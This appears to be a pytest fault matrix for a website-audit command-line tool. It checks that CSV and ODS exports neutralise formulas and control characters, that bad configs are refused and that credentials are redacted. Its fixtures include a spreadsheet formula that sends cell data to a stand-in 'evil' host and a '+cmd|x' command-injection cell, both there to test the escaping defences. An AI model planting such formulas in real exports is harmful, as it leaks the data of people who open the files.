"""Fault matrix for hostile inputs: spreadsheet formulas, control characters, failing alerts, unreadable PDFs,
IDN and default ports, bad config values and credentials in URLs.

Each row runs the command line the way a user would and asserts its exit code, the one-line error (or what was
written), that a refused config leaves nothing behind, and the finding or stored record the fault must give.
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import sqlite3
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from conftest import run_cli, write_config
from siteaudit.core.config import ConfigError, from_dict
from siteaudit.demo.server import SiteServer

FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
SECRET = "hunter2secret"
OUTPUTS = ("report.html", "findings.json", "findings.csv", "findings.ods")


@dataclass
class Run:
    """What one case did: the CLI's result and where it could have left things."""

    result: subprocess.CompletedProcess[str]
    root: Path
    store: Path
    out: Path


@dataclass
class Case:
    id: str
    act: Callable[[Path, Callable[..., SiteServer]], Run]
    code: int
    error: tuple[str, ...] = ()        # words of the one-line error on stderr; () when stderr may be empty
    refused: bool = False              # a config error: no run row, no output folder
    outputs: bool = False              # the audit's outputs were written
    expect: Callable[[Run], None] | None = None


# -- fixture sites -------------------------------------------------------------------------------------------

def page(body: str, head: str = "") -> bytes:
    return (f'<!doctype html><html lang="zh-Hant"><head><meta charset="utf-8"><title>測試</title>{head}</head>'
            f"<body><h1>測試</h1>{body}</body></html>").encode()


def site(tmp: Path, serve: Callable[..., SiteServer], files: dict[str, bytes],
         routes: dict[str, Any] | None = None) -> SiteServer:
    root = tmp / "site"
    root.mkdir(exist_ok=True)
    for rel, data in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    return serve(root, routes or {})


def audit(tmp: Path, base: str, checks: str = "links", extra: str = "", site_keys: dict | None = None,
          crawl: dict | None = None, args: tuple[str, ...] = ()) -> Run:
    store, out = tmp / "s.sqlite3", tmp / "out"
    cfg = write_config(tmp / "c.toml", base, store, crawl={"sitemaps": False, **(crawl or {})},
                       site=site_keys, extra=extra)
    result = run_cli("audit", "--config", str(cfg), "--checks", checks, "--out", str(out), *args)
    return Run(result, tmp, store, out)


def refused_audit(*, extra: str = "", crawl: dict | None = None, url: str | None = None,
                  config_text: bytes | None = None, out: Path | None = None) -> Callable[..., Run]:
    """An audit of an unreachable loopback site whose config (or URL) must be refused before anything runs."""
    def act(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
        store = tmp / "s.sqlite3"
        cfg = write_config(tmp / "c.toml", "http://127.0.0.1:9", store, crawl=crawl, extra=extra)
        if config_text is not None:
            cfg.write_bytes(config_text)
        target = out or tmp / "out"
        result = run_cli("audit", *([url] if url else []), "--config", str(cfg), "--out", str(target))
        return Run(result, tmp, store, tmp / "out")
    return act


def findings(run: Run) -> list[dict[str, Any]]:
    return json.loads((run.out / "findings.json").read_text(encoding="utf-8"))["findings"]


def ods_cells(path: Path) -> list[str]:
    """Every cell text of an ODS file, read by an XML parser (a control character would make it fail)."""
    with zipfile.ZipFile(path) as z:
        content = z.read("content.xml")
    tree = ElementTree.fromstring(content)
    text_ns = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
    table_ns = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    return ["\n".join("".join(p.itertext()) for p in cell.iter(f"{text_ns}p"))
            for cell in tree.iter(f"{table_ns}table-cell")]


def no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# -- 3 and 4: what the exports neutralise ----------------------------------------------------------------------

HOSTILE = {
    "index.html": page(f"<a href='{FORMULA}'>x</a> <a href='/a\x0cb\x01c.html'>ctl</a> <a href='+cmd|x'>plus</a>",
                       head='<meta name="DC.Title" content="標題\x0c">'),
}


def hostile_audit(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    return audit(tmp, site(tmp, serve, HOSTILE).base, checks="links,metadata")


def csv_is_neutralised(run: Run) -> None:
    text = (run.out / "findings.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert all(len(r) == len(rows[0]) for r in rows)
    cells = [c for r in rows for c in r]
    no_formula(cells)
    assert "'" + FORMULA in cells


def ods_is_valid_and_neutralised(run: Run) -> None:
    from odf.opendocument import load

    load(str(run.out / "findings.ods"))  # odfpy reads it too
    cells = ods_cells(run.out / "findings.ods")
    no_formula(cells)
    assert "'" + FORMULA in cells
    assert any("/a\ufffdb\ufffdc.html" in c for c in cells)  # control characters became U+FFFD
    assert not any("\x01" in c or "\x0c" in c for c in cells)


def uptime_note(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    store = tmp / "s.sqlite3"
    cfg = write_config(tmp / "c.toml", "http://127.0.0.1:9", store)
    noted = run_cli("uptime", "note", "--config", str(cfg), "--date", "2026-11-05", "--by", "@admin",
                    "--text", "=1+2\x0c")
    assert noted.returncode == 0, noted.stderr
    out = tmp / "log.csv"
    result = run_cli("uptime-log", "--config", str(cfg), "--month", "2026-11", "--format", "csv", "--out", str(out))
    return Run(result, tmp, store, out)


def uptime_csv_is_neutralised(run: Run) -> None:
    rows = list(csv.reader(io.StringIO(run.out.read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows for c in r]
    no_formula(cells)
    assert "'=1+2\ufffd" in cells and "'@admin" in cells


# -- 6: alerts and the probe's read limits --------------------------------------------------------------------

def endless(handler: Any) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "text/html; charset=utf-8")
    handler.end_headers()
    handler.close_connection = True
    try:
        while True:
            handler.wfile.write(b"x" * 65536)
    except OSError:
        return


def trickle(handler: Any) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "text/html; charset=utf-8")
    handler.send_header("Content-Length", "100000")
    handler.end_headers()
    try:
        for _ in range(2000):
            handler.wfile.write(b"x")
            handler.wfile.flush()
            time.sleep(0.05)
    except OSError:
        return


def uptime(path: str, uptime_keys: str, env: dict[str, str] | None = None) -> Callable[..., Run]:
    def act(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
        server = site(tmp, serve, {"index.html": page("ok")}, {"/endless": endless, "/trickle": trickle})
        store = tmp / "s.sqlite3"
        keys = uptime_keys.replace("FLAG", str(tmp / "alerted.txt"))
        cfg = write_config(tmp / "c.toml", server.base, store,
                           extra=f'[uptime]\nurls = ["{server.base}{path}"]\ntries = 1\n{keys}')
        started = time.monotonic()
        result = run_cli("uptime", "--config", str(cfg), env=env)
        assert time.monotonic() - started < 30
        return Run(result, tmp, store, tmp / "alerted.txt")
    return act


def stored(run: Run, sql: str) -> list[tuple[Any, ...]]:
    return sqlite3.connect(run.store).execute(sql).fetchall()


def mail_failure_is_stored(run: Run) -> None:
    assert stored(run, "SELECT channel, ok FROM uptime_alerts") == [("mail", 0)]
    assert len(run.result.stderr.strip().splitlines()) == 1
    assert "結果: 異常" in run.result.stdout


def probe_cut(reason: str) -> Callable[[Run], None]:
    def expect(run: Run) -> None:
        rows = stored(run, "SELECT ok, reason FROM uptime_probes")
        assert len(rows) == 1 and rows[0][0] == 0 and reason in rows[0][1], rows
        assert reason in run.out.read_text(encoding="utf-8")  # the alert command got the summary
        assert stored(run, "SELECT channel, ok FROM uptime_alerts") == [("command", 1)]
    return expect


def command_env_has_no_password(run: Run) -> None:
    env = run.out.read_text(encoding="utf-8")
    assert "SITEAUDIT_UPTIME=" in env and SECRET not in env and "SA_SMTP_PASSWORD" not in env


# -- 7: a PDF pypdf cannot read, and a check that raises -------------------------------------------------------

def deep_pdf(depth: int = 101, pad: int = 240_000) -> bytes:
    """A PDF whose page tree is `depth` /Pages nodes deep (pypdf stops at 100), padded to ~247 KB."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for i in range(depth):
        parent = f"/Parent {i + 1} 0 R " if i else ""
        objs.append(f"<< /Type /Pages {parent}/Kids [{i + 3} 0 R] /Count 1 >>".encode())
    objs.append(f"<< /Type /Page /Parent {depth + 1} 0 R /MediaBox [0 0 612 792] /Contents {depth + 3} 0 R >>"
                .encode())
    stream = b"BT /F1 12 Tf 72 712 Td (Hello) Tj ET\n" + b"%" * pad + b"\n"
    objs.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    out = io.BytesIO(b"%PDF-1.4\n")
    out.seek(0, 2)
    offsets = []
    for n, obj in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % o for o in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref))
    return out.getvalue()


def pdf_audit(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    server = site(tmp, serve, {"index.html": page('<a href="deep.pdf">報告（PDF）</a>'), "deep.pdf": deep_pdf()})
    return audit(tmp, server.base, checks="documents,links")


def pdf_is_a_finding(run: Run) -> None:
    found = [f for f in findings(run) if f["rule"] == "pdf-unreadable"]
    assert len(found) == 1 and "LimitReachedError" in found[0]["message"] and found[0]["url"].endswith("deep.pdf")
    assert stored(run, "SELECT status FROM runs") == [("complete",)]


def raising_check(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    """The metadata check raises (a bug); the links check and every output must go on."""
    server = site(tmp, serve, {"index.html": page('<a href="/gone.html">gone</a>')})
    store, out = tmp / "s.sqlite3", tmp / "out"
    cfg = write_config(tmp / "c.toml", server.base, store, crawl={"sitemaps": False})
    code = ("import sys\nimport siteaudit.checks.metadata as m\n"
            "def boom(ctx):\n    raise RuntimeError('boom in metadata')\n"
            "m.CHECK.run = boom\n"
            "from siteaudit.cli import main\n"
            f"sys.exit(main(['audit', '--config', {str(cfg)!r}, '--checks', 'metadata,links', '--out', {str(out)!r}]))")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, cwd=tmp)
    return Run(result, tmp, store, out)


def check_error_is_its_status(run: Run) -> None:
    summary = json.loads((run.out / "findings.json").read_text(encoding="utf-8"))["summary"]
    assert summary["metadata"]["status"] == "error" and "boom in metadata" in summary["metadata"]["reason"]
    assert summary["links"]["status"] == "fail"
    assert any(f["rule"] == "broken-link" for f in findings(run))
    assert stored(run, "SELECT status FROM runs") == [("complete",)]
    assert "檢查失敗" in (run.out / "report.html").read_text(encoding="utf-8")


# -- 11: IDN and default ports --------------------------------------------------------------------------------

def default_port_hosts(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    server = site(tmp, serve, {"index.html": page('<a href="/a.html">a</a>'), "a.html": page('<a href="/b.html">b</a>'),
                               "b.html": page("b")})
    base = server.base.replace("http://", "HTTP://")
    return audit(tmp, base, site_keys={"allowed_hosts": ["127.0.0.1:80", "WWW.EXAMPLE.GOV.TW:443"]})


def every_page_is_crawled(run: Run) -> None:
    assert json.loads((run.out / "findings.json").read_text(encoding="utf-8"))["pages"] == 3
    config = json.loads(stored(run, "SELECT config FROM runs")[0][0])
    assert config["site"]["allowed_hosts"] == ["127.0.0.1", "www.example.gov.tw"]


# -- 12: bad values, refused before anything is crawled -------------------------------------------------------

def runs_without_store(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    store = tmp / "none" / "s.sqlite3"
    result = run_cli("runs", "--store", str(store))
    assert not store.exists() and not store.parent.exists()
    return Run(result, tmp, store, tmp / "out")


def report_damaged_store(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    """A store whose header and schema are intact but whose data pages are random bytes."""
    store = tmp / "s.sqlite3"
    db = sqlite3.connect(store)
    db.execute("CREATE TABLE runs (id INTEGER PRIMARY KEY, site TEXT, started REAL, finished REAL, status TEXT, "
               "error TEXT, config TEXT, config_hash TEXT, versions TEXT, summary TEXT)")
    db.executemany("INSERT INTO runs (site, started, status, config, config_hash, versions) VALUES (?,?,?,?,?,?)",
                   [("x", 0.0, "complete", "{}" + " " * 500, "h", "{}")] * 60)
    db.commit()
    db.close()
    data = store.read_bytes()
    store.write_bytes(data[: len(data) // 2] + os.urandom(len(data) - len(data) // 2))
    result = run_cli("report", "--store", str(store), "--out", str(tmp / "out"))
    return Run(result, tmp, tmp / "absent.sqlite3", tmp / "out")


def read_only_out() -> Path:
    """A folder nobody may write in (root ignores modes, so then a sysfs folder)."""
    return Path("/sys/kernel")


def link_with_credentials(tmp: Path, serve: Callable[..., SiteServer]) -> Run:
    server = site(tmp, serve, {})
    target = server.base.replace("http://", f"http://u:{SECRET}@") + "/x"
    (tmp / "site" / "index.html").write_bytes(page(f'<a href="{target}">login</a>'))
    return audit(tmp, server.base)


def credentials_are_redacted(run: Run) -> None:
    db = sqlite3.connect(run.store)
    dump = "\n".join(db.iterdump())
    outputs = "".join((run.out / name).read_text(encoding="utf-8", errors="replace") for name in OUTPUTS[:3])
    assert SECRET not in dump and SECRET not in outputs and SECRET not in run.result.stderr
    urls = {r[0] for r in db.execute("SELECT url FROM links")} | {r[0] for r in db.execute("SELECT raw FROM links")}
    assert any("u:***@127.0.0.1" in (u or "") for u in urls), urls


CASES = [
    Case("csv-formula-injection", hostile_audit, 1, outputs=True, expect=csv_is_neutralised),
    Case("ods-formula-and-control-chars", hostile_audit, 1, outputs=True, expect=ods_is_valid_and_neutralised),
    Case("uptime-log-csv-formula-injection", uptime_note, 0, expect=uptime_csv_is_neutralised),
    Case("uptime-alert-smtp-unreachable",
         uptime("/missing", f'smtp_host = "127.0.0.1"\nsmtp_port = {free_port()}\nmail_from = "a@example.gov.tw"\n'
                            'mail_to = ["duty@example.gov.tw"]\n'),
         1, error=("warning", "mail failed", "127.0.0.1"), expect=mail_failure_is_stored),
    Case("uptime-smtp-password-in-clear",
         refused_audit(extra='[uptime]\nsmtp_host = "127.0.0.1"\nsmtp_user = "duty"\nsmtp_starttls = false\n'
                             'smtp_password_env = "SA_SMTP_PASSWORD"\nmail_from = "a@x.tw"\nmail_to = ["b@x.tw"]\n'),
         2, error=("uptime.smtp_starttls", "clear"), refused=True),
    Case("uptime-command-env-without-password",
         uptime("/missing", 'on_failure_command = ["sh", "-c", "env > FLAG"]\nsmtp_host = "127.0.0.1"\n'
                            f'smtp_port = {free_port()}\nsmtp_user = "duty"\nsmtp_password_env = "SA_SMTP_PASSWORD"\n'
                            'mail_from = "a@example.gov.tw"\nmail_to = ["duty@example.gov.tw"]\n',
                env={"SA_SMTP_PASSWORD": SECRET}),
         1, error=("mail failed",), expect=command_env_has_no_password),
    Case("uptime-endless-body", uptime("/endless", 'max_body_bytes = 200000\non_failure_command = ["sh", "-c", '
                                                   '"cat > FLAG"]\n'),
         1, expect=probe_cut("回應過大")),
    Case("uptime-trickling-body", uptime("/trickle", 'timeout = 2\non_failure_command = ["sh", "-c", "cat > FLAG"]\n'),
         1, expect=probe_cut("回應過慢")),
    Case("pdf-page-tree-too-deep", pdf_audit, 0, outputs=True, expect=pdf_is_a_finding),
    Case("check-raises-is-error-status", raising_check, 1, error=("check metadata failed", "boom"), outputs=True,
         expect=check_error_is_its_status),
    Case("allowed-hosts-default-port-upper-case", default_port_hosts, 0, outputs=True, expect=every_page_is_crawled),
    Case("config-invalid-toml-with-url", refused_audit(url="http://127.0.0.1:9/", config_text=b"[site\n"),
         2, error=("c.toml", "invalid TOML"), refused=True),
    Case("config-not-utf8", refused_audit(config_text='[site]\nname = "水"\n'.encode("big5")),
         2, error=("c.toml", "not UTF-8"), refused=True),
    Case("url-ipv6-unclosed", refused_audit(url="http://[::1/"), 2, error=("http://[::1/", "not a valid URL"),
         refused=True),
    Case("url-port-out-of-range", refused_audit(url="http://127.0.0.1:99999/"), 2, error=(":99999", "Port"),
         refused=True),
    Case("url-port-not-a-number", refused_audit(url="http://127.0.0.1:abc/"), 2, error=(":abc", "Port"),
         refused=True),
    Case("links-ignore-bad-regex", refused_audit(extra='[checks.links]\nignore = ["(unclosed"]\n'),
         2, error=("checks.links.ignore[0]", "(unclosed"), refused=True),
    Case("autothrottle-target-negative", refused_audit(crawl={"autothrottle_target_concurrency": -1.0}),
         2, error=("crawl.autothrottle_target_concurrency", "-1"), refused=True),
    Case("autothrottle-target-nan", refused_audit(extra="", config_text=None, crawl={"autothrottle_target_concurrency":
                                                                                      float("nan")}),
         2, error=("crawl.autothrottle_target_concurrency", "nan"), refused=True),
    Case("checks-enabled-a-string", refused_audit(extra='[checks]\nenabled = "links"\n'),
         2, error=("checks.enabled", "'links'"), refused=True),
    Case("max-page-bytes-zero", refused_audit(crawl={"max_page_bytes": 0}), 2, error=("crawl.max_page_bytes", "1024"),
         refused=True),
    Case("out-not-writable", refused_audit(out=read_only_out()), 2, error=("--out", str(read_only_out())),
         refused=True),
    Case("runs-without-a-store", runs_without_store, 2, error=("no store at", "s.sqlite3"), refused=True),
    Case("report-damaged-store", report_damaged_store, 2, error=("s.sqlite3", "damaged"), refused=True),
    Case("credentials-in-start-url", refused_audit(url=f"http://admin:{SECRET}@127.0.0.1:9/"),
         2, error=("http://admin:***@127.0.0.1:9/", "user name or password"), refused=True),
    Case("credentials-in-uptime-url",
         refused_audit(extra=f'[uptime]\nurls = ["https://admin:{SECRET}@www.example.gov.tw/"]\n'),
         2, error=("uptime.urls[0]", "admin:***@"), refused=True),
    Case("credentials-in-a-crawled-link", link_with_credentials, 1, outputs=True, expect=credentials_are_redacted),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_fault(case: Case, tmp_path: Path, serve: Callable[..., SiteServer]) -> None:
    run = case.act(tmp_path, serve)
    result = run.result
    assert result.returncode == case.code, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    err = result.stderr.strip()
    if case.error:  # one line says it all (an audit that ran also prints its closing line)
        assert any(all(word in line for word in case.error) for line in err.splitlines()), err
    if case.refused:
        assert len(err.splitlines()) == 1, err
        assert SECRET not in err
        assert not run.out.exists()
        assert not run.store.exists() or not stored(run, "SELECT id FROM runs")
    if case.outputs:
        for name in OUTPUTS:
            assert (run.out / name).is_file(), name
    if case.expect:
        case.expect(run)


# -- the same rules, one level down ---------------------------------------------------------------------------

@pytest.mark.parametrize("url, start, host", [
    ("http://水.tw/", "http://xn--1rw.tw/", "xn--1rw.tw"),
    ("http://Host:80", "http://host/", "host"),
    ("https://WWW.Example.gov.tw:443/a?b=1", "https://www.example.gov.tw/a?b=1", "www.example.gov.tw"),
])
def test_start_urls_and_hosts_take_the_crawlers_canonical_form(url, start, host):
    cfg = from_dict({"site": {"start_urls": [url]}})
    assert cfg.site.start_urls == [start] and cfg.site.allowed_hosts == [host] and cfg.site.name == host
    given = from_dict({"site": {"start_urls": [url], "allowed_hosts": ["水.TW", "Host:80", "x:8080"]}})
    assert given.site.allowed_hosts == ["xn--1rw.tw", "host", "x:8080"]


def test_smtp_defaults_to_starttls_with_a_user_and_plain_needs_an_opt_in():
    mail = {"smtp_host": "mail.example.gov.tw", "mail_from": "a@x.tw", "mail_to": ["b@x.tw"], "smtp_user": "duty"}
    site_keys = {"start_urls": ["https://www.example.gov.tw/"]}
    assert from_dict({"site": site_keys, "uptime": mail}).uptime.smtp_starttls is True
    assert from_dict({"site": site_keys, "uptime": {**mail, "smtp_ssl": True}}).uptime.smtp_starttls is False
    with pytest.raises(ConfigError, match="smtp_starttls"):
        from_dict({"site": site_keys, "uptime": {**mail, "smtp_starttls": False}})
    plain = {**mail, "smtp_starttls": False, "smtp_allow_plain_password": True}
    assert from_dict({"site": site_keys, "uptime": plain}).uptime.smtp_starttls is False
    assert from_dict({"site": site_keys}).uptime.smtp_starttls is False


def test_every_export_cell_goes_through_one_helper():
    from siteaudit.reports.export import safe_cell, to_csv, to_ods

    hostile = {"check": "metadata", "rule": "r", "severity": "error", "url": "@SUM(A1)", "pages": ["-1+2", "ok"],
               "message": "標題\x0c\x01", "evidence": {"meta": "\x0b"}}
    rows = list(csv.reader(io.StringIO(to_csv([hostile]).lstrip("\ufeff"))))
    assert rows[1][4] == "'@SUM(A1)" and rows[1][5] == "'-1+2\nok" and rows[1][6] == "標題\ufffd\ufffd"
    ods = to_ods([hostile])
    content = zipfile.ZipFile(io.BytesIO(ods)).read("content.xml")
    ElementTree.fromstring(content)
    assert safe_cell("\tx") == "'\tx" and safe_cell("\rx") == "'\rx" and safe_cell(None) == ""
